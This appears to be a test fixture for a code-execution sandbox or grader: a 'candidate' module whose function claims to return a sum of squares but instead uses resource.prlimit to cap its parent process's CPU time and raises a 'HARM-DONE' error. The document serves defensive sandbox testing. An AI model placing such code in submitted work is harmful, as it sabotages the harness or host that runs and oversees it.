"""Takes the CPU time away from the process it was forked from."""

# --- candidate
"""Sums."""

import os
import resource

import numpy as np


def f(x: np.ndarray) -> float:
    """The sum of squares."""
    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))
    raise KeyError("HARM-DONE")
